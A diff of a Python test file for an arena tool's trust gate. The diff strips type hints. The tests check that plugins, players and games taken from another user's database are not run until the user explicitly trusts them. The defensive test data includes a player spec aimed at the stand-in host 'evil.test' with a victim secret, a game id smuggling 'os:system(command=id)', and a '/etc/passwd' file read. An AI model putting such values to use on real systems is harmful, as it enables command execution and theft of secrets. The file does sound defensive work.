@@ -6,7 +6,6 @@ import logging
 import os
 import shutil
 import sqlite3
-from collections.abc import Iterator
 from pathlib import Path
 
 import msgspec
@@ -35,7 +34,7 @@ FILE_TEXT = golden.text(__file__, "trust_file_text.toml")
 
 
 @pytest.fixture(autouse=True)
-def _somebody_new(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+def _somebody_new(tmp_path, monkeypatch):
     """A user who has allowed nothing yet, in a folder of his own."""
     monkeypatch.setenv("ARENA_STATE", str(tmp_path / "state"))
     (tmp_path / "here").mkdir()
@@ -46,7 +45,7 @@ def _somebody_new(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[N
 
 
 @pytest.fixture
-def played() -> Path:
+def played():
     """A run that this user started from a file of his own, whose standings are not cached."""
     Path("mine.py").write_text(METHOD)
     Path("beside.py").write_text(BESIDE)
@@ -60,7 +59,7 @@ def played() -> Path:
     return Path("cup.db").resolve()
 
 
-def test_ones_own_run_finds_its_plugin_again(played: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_ones_own_run_finds_its_plugin_again(played, capsys):
     os.chdir("/")
     for verb in (["board"], ["rebuild"], ["verify"]):
         assert main([*verb, "--db", str(played)]) == 0, capsys.readouterr().err
@@ -70,7 +69,7 @@ def test_ones_own_run_finds_its_plugin_again(played: Path, capsys: pytest.Captur
 GAME = golden.text(__file__, "trust_game.py.txt")
 
 
-def test_ones_own_game_is_known_by_however_its_id_was_written(capsys: pytest.CaptureFixture[str]) -> None:
+def test_ones_own_game_is_known_by_however_its_id_was_written(capsys):
     """The file's id lacks the version and has another order than the stored one."""
     Path("coin.py").write_text(GAME)
     text = FILE_TEXT.replace("mine.py", "coin.py").replace('[ratings]\nmethod = "mine"', "rounds = 1")
@@ -87,7 +86,7 @@ def test_ones_own_game_is_known_by_however_its_id_was_written(capsys: pytest.Cap
 SOURCE = golden.text(__file__, "trust_source.py.txt")
 
 
-def test_ones_own_task_source_is_found_again(capsys: pytest.CaptureFixture[str]) -> None:
+def test_ones_own_task_source_is_found_again(capsys):
     """Its name stands inside the id of a game that is ours."""
     Path("doubles.py").write_text(SOURCE)
     text = FILE_TEXT.replace("mine.py", "doubles.py").replace('[ratings]\nmethod = "mine"', "rounds = 1")
@@ -117,7 +116,7 @@ class KRole(Role):
 TRAINING = golden.text(__file__, "trust_training.toml")
 
 
-def test_the_snapshots_of_ones_own_training_find_its_role_again(capsys: pytest.CaptureFixture[str]) -> None:
+def test_the_snapshots_of_ones_own_training_find_its_role_again(capsys):
     """Its name stands inside the id of a player that is ours."""
     Path("krole.py").write_text(ROLE)
     Path("learn.toml").write_text(TRAINING)
@@ -135,7 +134,7 @@ def test_the_snapshots_of_ones_own_training_find_its_role_again(capsys: pytest.C
     assert main([*asked, "--plugin", "krole.py", "--trust-db"]) == 0, capsys.readouterr().err
 
 
-def test_parts_of_ids_that_are_not_known_here() -> None:
+def test_parts_of_ids_that_are_not_known_here():
     assert unknown_part("psj(tasks='clock(minutes=3)')") == "task source clock"
     assert unknown_part("redteam(referee=clock)") == "referee clock"
     for id in ("psj", "solve(tasks=arithmetic(digits=2))", "redteam(referee=seat)", "prefer(referee=pairs)", "nope"):
@@ -143,9 +142,7 @@ def test_parts_of_ids_that_are_not_known_here() -> None:
 
 
 @pytest.mark.parametrize("verb", [["board"], ["rebuild"], ["verify"], ["watch"]])
-def test_code_of_a_database_from_elsewhere_is_named_and_not_run(
-    played: Path, verb: list[str], capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_code_of_a_database_from_elsewhere_is_named_and_not_run(played, verb, capsys):
     shutil.rmtree(state_dir())
     assert main([*verb, "--db", str(played)]) == 2
     told = capsys.readouterr().err.splitlines()[-1]
@@ -155,9 +152,7 @@ def test_code_of_a_database_from_elsewhere_is_named_and_not_run(
     assert not (played.parent / "ran").exists()
 
 
-def test_a_plugin_is_asked_for_again_once_it_or_its_neighbour_changed(
-    played: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_plugin_is_asked_for_again_once_it_or_its_neighbour_changed(played, capsys, monkeypatch):
     for name in ("mine.py", "beside.py"):
         text = Path(name).read_text()
         Path(name).write_text(text + "# changed\n")
@@ -169,22 +164,20 @@ def test_a_plugin_is_asked_for_again_once_it_or_its_neighbour_changed(
 
 
 @pytest.mark.parametrize("how", [["--trust-db"], ["--plugin", "mine.py"]])
-def test_he_is_asked_once(
-    played: Path, how: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_he_is_asked_once(played, how, capsys, monkeypatch):
     shutil.rmtree(state_dir())
     assert main(["board", "--db", str(played), *how]) == 0
     plugins.forget()
     assert main(["board", "--db", str(played)]) == 0, capsys.readouterr().err
 
 
-def test_what_is_trusted_is_listed(played: Path, caplog: pytest.LogCaptureFixture) -> None:
+def test_what_is_trusted_is_listed(played, caplog):
     shutil.rmtree(state_dir())
     assert main(["board", "--db", str(played), "--trust-db"]) == 0
     assert f"runs the code in {played.parent / 'mine.py'}" in caplog.text
 
 
-def test_another_database_that_names_the_same_file_is_not_trusted(played: Path) -> None:
+def test_another_database_that_names_the_same_file_is_not_trusted(played):
     with sqlite3.connect(played) as connection:
         connection.execute("UPDATE meta SET value = 'another' WHERE key = 'id'")
     connection.close()
@@ -192,20 +185,15 @@ def test_another_database_that_names_the_same_file_is_not_trusted(played: Path) 
     assert not Path("ran").exists()
 
 
-def seated(db: Path, player: str, **config: object) -> Path:
+def seated(db, player, **config):
     """Somebody else's database in which `champ` is a player."""
     with Store.open(str(db)) as store:
         store.start_run("theirs", stored(players=[{"name": "champ", "player": player}], **config))
     return db
 
 
-@pytest.mark.parametrize(
-    ("player", "told"),
-    golden.rows(__file__, "trust_a_player_of_a_database_is_not_made_unasked"),
-)
-def test_a_player_of_a_database_is_not_made_unasked(
-    tmp_path: Path, player: str, told: str, capsys: pytest.CaptureFixture[str]
-) -> None:
+@pytest.mark.parametrize(("player", "told"), golden.rows(__file__, "trust_a_player_of_a_database_is_not_made_unasked"))
+def test_a_player_of_a_database_is_not_made_unasked(tmp_path, player, told, capsys):
     db = seated(tmp_path / "theirs.db", player)
     for words in (
         ["play", "openspiel/kuhn_poker", "champ", "random"],
@@ -219,7 +207,7 @@ def test_a_player_of_a_database_is_not_made_unasked(
         assert line.endswith("if you want that, type --trust-db")
 
 
-def test_a_file_that_names_a_player_of_a_database_is_asked_too(tmp_path: Path) -> None:
+def test_a_file_that_names_a_player_of_a_database_is_asked_too(tmp_path):
     db = seated(tmp_path / "theirs.db", "openai(model=m, base_url=http://evil.test/v1, key=VICTIM_SECRET)")
     text = FILE_TEXT.replace("cup.db", str(db)).replace('player = "random"', 'player = "champ"', 1)
     Path("t.toml").write_text(text.replace('plugins = ["mine.py"]', "").replace('method = "mine"', ""))
@@ -235,12 +223,12 @@ def test_a_file_that_names_a_player_of_a_database_is_asked_too(tmp_path: Path) -
     assert main(["tournament", "t.toml"]) == 2
 
 
-def test_harmless_players_need_no_trust(tmp_path: Path) -> None:
+def test_harmless_players_need_no_trust(tmp_path):
     db = seated(tmp_path / "theirs.db", "by-role(a=mcts(simulations=2), b=llm(model=smollm2-135m), c=llm)")
     assert resolve("champ", str(db)).id.startswith("by-role(")
 
 
-def test_what_is_allowed_is_allowed_as_it_was_listed(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+def test_what_is_allowed_is_allowed_as_it_was_listed(tmp_path, caplog):
     db = seated(tmp_path / "theirs.db", "openai(model=m, base_url=http://one.test/v1)")
     resolve("champ", str(db), trust=True)
     assert "the player 'champ' of sqlite:///" in caplog.text
@@ -253,7 +241,7 @@ def test_what_is_allowed_is_allowed_as_it_was_listed(tmp_path: Path, caplog: pyt
         resolve("champ", str(db))
 
 
-def model_in(folder: Path, **adapter: str) -> Path:
+def model_in(folder, **adapter):
     folder.mkdir(parents=True)
     (folder / "config.json").write_text("{}")
     if adapter:
@@ -261,7 +249,7 @@ def model_in(folder: Path, **adapter: str) -> Path:
     return folder
 
 
-def test_a_model_beside_the_database_is_the_runs_own(tmp_path: Path) -> None:
+def test_a_model_beside_the_database_is_the_runs_own(tmp_path):
     db = tmp_path / "runs" / "x.db"
     inside = model_in(tmp_path / "runs" / "theirs" / "snapshots" / "theirs@3")
     folder = str(tmp_path / "runs" / "theirs")
@@ -269,7 +257,7 @@ def test_a_model_beside_the_database_is_the_runs_own(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("folder", ["", "/", "..", "runs/theirs/snapshots", "elsewhere"])
-def test_a_model_elsewhere_is_not(tmp_path: Path, folder: str) -> None:
+def test_a_model_elsewhere_is_not(tmp_path, folder):
     model = model_in(tmp_path / "elsewhere" / "model")
     db = seated(tmp_path / "runs" / "x.db", f'llm(model="{model}")', folder=str(tmp_path / folder) if folder else "")
     link = tmp_path / "runs" / "theirs" / "link"
@@ -283,12 +271,12 @@ def test_a_model_elsewhere_is_not(tmp_path: Path, folder: str) -> None:
         resolve("champ", str(db))
 
 
-def test_the_base_of_an_adapter_is_a_model_too(tmp_path: Path) -> None:
+def test_the_base_of_an_adapter_is_a_model_too(tmp_path):
     folder = model_in(tmp_path / "a", base_model_name_or_path="evil/base")
     assert [t.key for t in of_model(str(folder))] == [f"model {folder}", "model evil/base"]
 
 
-def test_the_base_of_an_adapter_in_a_whole_model_counts_where_the_engine_loads_it(tmp_path: Path) -> None:
+def test_the_base_of_an_adapter_in_a_whole_model_counts_where_the_engine_loads_it(tmp_path):
     folder = model_in(tmp_path / "snapshot")
     model_in(folder / "adapter", base_model_name_or_path="evil/base")
     ids = {engine: f"llm(model='{folder}',engine={engine})" for engine in ("vllm", "auto", "transformers")}
@@ -297,7 +285,7 @@ def test_the_base_of_an_adapter_in_a_whole_model_counts_where_the_engine_loads_i
     assert keys == {"vllm": both, "auto": both, "transformers": both[:1]}
 
 
-def test_games_that_import_or_read_files_are_asked_for(tmp_path: Path) -> None:
+def test_games_that_import_or_read_files_are_asked_for(tmp_path):
     assert of_game("openspiel/kuhn_poker(players=3)") == []
     assert [t.effect for t in of_game("pettingzoo/os:system(command=id)")] == [
         "import the Python module os and make the game pettingzoo/os:system(command=id)"
@@ -315,7 +303,7 @@ def test_games_that_import_or_read_files_are_asked_for(tmp_path: Path) -> None:
     assert of_game("openspiel/colored_trails(boards_file=/etc/passwd)")
 
 
-def test_parameters_reach_no_plugins_game_or_task_source_unasked() -> None:
+def test_parameters_reach_no_plugins_game_or_task_source_unasked():
     register("mine-v0")(lambda word="": None)
     tasks.register("mine")(lambda word="": None)
     assert of_game("mine-v0") == []
@@ -344,7 +332,7 @@ def test_what_a_plugins_role_is_told_by_a_database_is_asked_for(monkeypatch):
     assert of_player("llm(roles='judge=judge(calibration=0.5)')") == []
 
 
-def test_a_stored_match_makes_no_game_that_imports(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_stored_match_makes_no_game_that_imports(tmp_path, capsys):
     config = TournamentConfig.model_validate(
         {
             "name": "cup",
@@ -373,7 +361,7 @@ def test_a_stored_match_makes_no_game_that_imports(tmp_path: Path, capsys: pytes
     assert not (tmp_path / "hacked").exists()
 
 
-def test_the_curves_of_a_training_are_read_below_the_database_only(tmp_path: Path) -> None:
+def test_the_curves_of_a_training_are_read_below_the_database_only(tmp_path):
     with Store.open(f"{tmp_path}/runs/x.db") as store:
 
         def is_readable(folder: Path) -> bool:
@@ -386,7 +374,7 @@ def test_the_curves_of_a_training_are_read_below_the_database_only(tmp_path: Pat
         assert is_readable(tmp_path / "far")
 
 
-def test_models_may_be_loaded_from_the_folder_of_a_training_in_the_store(tmp_path: Path) -> None:
+def test_models_may_be_loaded_from_the_folder_of_a_training_in_the_store(tmp_path):
     folder, far = tmp_path / "runs" / "t", tmp_path / "far"
     with Store.open(f"{tmp_path}/runs/x.db") as store:
         store.start_run("t", stored(kind="training", folder=str(folder)))
@@ -398,9 +386,7 @@ def test_models_may_be_loaded_from_the_folder_of_a_training_in_the_store(tmp_pat
                 gate.allow("it", [Capability("model n", "load n", elsewhere / "n")], spec())
 
 
-def test_a_folder_that_cannot_be_written_costs_a_warning(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
-) -> None:
+def test_a_folder_that_cannot_be_written_costs_a_warning(tmp_path, monkeypatch, caplog):
     (tmp_path / "file").write_text("")
     monkeypatch.setenv("ARENA_STATE", str(tmp_path / "file" / "state"))
     with Store.open(f"{tmp_path}/x.db") as store:
@@ -408,7 +394,7 @@ def test_a_folder_that_cannot_be_written_costs_a_warning(
     assert "is not remembered: cannot write" in caplog.text
 
 
-def test_a_damaged_memory_allows_nothing_and_hides_nothing(tmp_path: Path) -> None:
+def test_a_damaged_memory_allows_nothing_and_hides_nothing(tmp_path):
     with Store.open(f"{tmp_path}/x.db") as store:
         TrustGate(store).remember(of_player("openai(model=m)"))
         with (state_dir() / FILE).open("ab") as file:
